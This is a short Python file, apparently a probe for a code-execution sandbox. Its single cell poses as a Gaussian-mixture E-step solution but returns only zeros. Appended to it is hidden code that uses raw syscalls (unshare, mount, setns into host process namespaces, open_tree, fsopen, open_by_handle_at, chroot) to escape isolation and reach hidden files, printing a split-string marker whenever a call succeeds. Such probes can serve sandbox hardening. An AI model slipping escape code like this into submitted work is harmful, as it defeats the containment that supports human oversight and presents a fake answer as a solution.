"""Mounts, unshares, joins namespaces and changes its root or identity, to see the files that are hidden from it."""

TRACE = "PWNED_namespace"

CELLS = {
    "estep": r"""
import numpy as np


def estep(X, mixture):
    return np.zeros((len(X), len(mixture.p))), 0.0


import ctypes
import os
import platform

libc = ctypes.PyDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
intel = platform.machine() == "x86_64"


def call(numbers, *args):
    number = numbers[0] if intel else numbers[1]
    if number is None:
        return -1
    ctypes.set_errno(0)
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(a) if isinstance(a, int) else a for a in args))


mark = "PWN" + "ED_namespace"
place = os.path.join(os.getcwd(), "place")
os.makedirs(place, exist_ok=True)
here, tmpfs = ctypes.create_string_buffer(place.encode()), ctypes.create_string_buffer(b"tmpfs")
where, what = ctypes.addressof(here), ctypes.addressof(tmpfs)
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x4000000, 0x2000000):
    if call((272, 97), flag) == 0:
        print(mark, "unshare", hex(flag))
if call((165, 40), what, where, what, 0, 0) == 0:
    print(mark, "mount")
    call((166, 39), where, 2)
for name in ("mnt", "net", "user", "pid", "ipc"):
    for number in (1, os.getppid()):
        try:
            file = os.open(f"/proc/{number}/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if call((308, 268), file, 0) == 0:
            print(mark, "setns", name, number)
for way, arguments in {
    "open_tree": ((428, 428), -100, where, 1),
    "fsopen": ((430, 430), what, 0),
    "open_by_handle_at": ((304, 265), -100, where, 0),
    "chroot": ((161, 51), where),
}.items():
    if call(*arguments) >= 0:
        print(mark, way)
        os.chdir(place)
""",
}
